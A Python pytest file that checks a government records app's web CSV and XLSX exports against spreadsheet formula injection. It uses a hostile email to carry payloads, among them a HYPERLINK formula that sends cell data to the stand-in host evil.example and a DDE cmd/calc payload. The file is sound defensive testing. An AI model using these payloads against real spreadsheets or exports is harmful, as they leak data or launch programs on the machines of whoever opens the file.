"""Attack: a citizen's mail carries spreadsheet formulas, and one case of the store has
been erased; a clerk then exports from the web app (queue and register, CSV and XLSX).

The command line's exports are attacked the same way in tests/intake/test_cases_export.py
(formulas, tombstone of an erased case); the web side went through a unit test of the
writer only. Here the web exports run over the real store: no cell is a formula, and one
erased case breaks none of them.

Hardened by this attack (storage/sheets.py): a formula sign after any whitespace (line
break, no-break or ideographic space) or a character that draws nothing (zero-width
space, byte order mark) is defused too, not only after plain spaces: what a spreadsheet
trims on import is not for us to guess.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date, timedelta
from email.message import EmailMessage

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import col, select

from intake.context import Context
from review.app import create_app
from review.options import WebOptions
from storage.db import transaction
from storage.models import Case
from storage.privacy import Actor
from storage.retention import erase_case
from storage.sheets import FORMULA_STARTS, safe_cell
from tests.review.conftest import sign_in
from tests.review.review_seed import person, request_body, request_mail, seed_store

ERASED = person(601)
HOSTILE = person(602)
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]


def hostile_mail() -> bytes:
    body = (
        request_body(HOSTILE)
        .replace("รายละเอียด: ขอสำเนาเอกสารเรื่องที่ 602", f"รายละเอียด: {PAYLOADS[1]}")
        .replace(f"ชื่อ-นามสกุล: {HOSTILE.name}", "ชื่อ-นามสกุล: -2+3 ทดสอบ")
    )
    assert "-2+3" in body
    mail = EmailMessage()
    mail["From"] = f'"{PAYLOADS[2]}" <{HOSTILE.email}>'  # quoted: the name reaches the register
    mail["To"] = "saraban@example.go.th"
    mail["Subject"] = PAYLOADS[0]
    mail["Message-ID"] = "<attack-exports-602@example.org>"
    mail.set_content(body)
    return bytes(mail)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Context:
    ctx = seed_store(
        tmp_path_factory.mktemp("attack-exports"),
        [person(600)],
        extra=[request_mail(ERASED), hostile_mail()],
    )
    with transaction(ctx.engine) as session:
        cases = session.execute(select(Case).order_by(col(Case.id))).scalars().all()
        assert len(cases) == 3 and cases[1].id is not None
        erase_case(
            session,
            case_id=cases[1].id,
            actor=Actor(name="dpo", role="compliance"),
            purpose="PDPA erasure request",
            keyring=ctx.keyring,
        )
    return ctx


@pytest.fixture
def client(store: Context) -> Iterator[TestClient]:
    app = create_app(store.settings, ctx=store, options=WebOptions(secure_cookies="never"))
    with TestClient(app, follow_redirects=True) as test_client:
        sign_in(test_client, "boss")
        yield test_client


def _paths() -> list[str]:
    today = date.today()
    span = f"first={today - timedelta(days=2)}&last={today + timedelta(days=2)}"
    return [
        "/exports/queue.csv?status=all",
        "/exports/queue.xlsx?status=all",
        f"/exports/register.csv?{span}",
        f"/exports/register.xlsx?{span}",
    ]


def _cells(path: str, content: bytes) -> list[str]:
    if path.split("?")[0].endswith(".csv"):
        text = content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], f"{path}: formula cells"
    return [str(c.value) for c in cells if c.value is not None]


@pytest.mark.parametrize("path", _paths())
def test_web_exports_hold_no_formula_and_survive_an_erasure(client: TestClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 200, path
    cells = _cells(path, response.content)
    # the hostile case is there: its subject (register) or its masked name "-xxxx" (queue)
    assert any("HYPERLINK" in c or c.endswith("-xxxx") for c in cells), path
    # and a hostile value opens a cell (the queue's name "-xxxx", the register's sender
    # "@xxxx <...>"), so an undefused writer would fail here
    assert any(c.lstrip("'")[:1] in FORMULA_STARTS for c in cells), path
    live = [c for c in cells if c[:1] in FORMULA_STARTS or c.lstrip()[:1] in FORMULA_STARTS]
    assert not live, f"{path}: cells a spreadsheet would run: {live}"
    # every case has its line: the erased one (a tombstone) and the two around it
    assert sum(c.startswith("REQ-") for c in cells) == 3, path


@pytest.mark.parametrize(
    "lead", [" ", "  \t", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", " \u200b "]
)
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
def test_a_formula_behind_whitespace_or_invisibles_is_defused(lead: str, sign: str) -> None:
    cell = safe_cell(f"{lead}{sign}1+1")
    assert cell.startswith("'"), repr(cell)


@pytest.mark.parametrize("text", ["ขอข้อมูล = ตามมาตรา 11", "a-b", "1+1", "user@example.org"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text
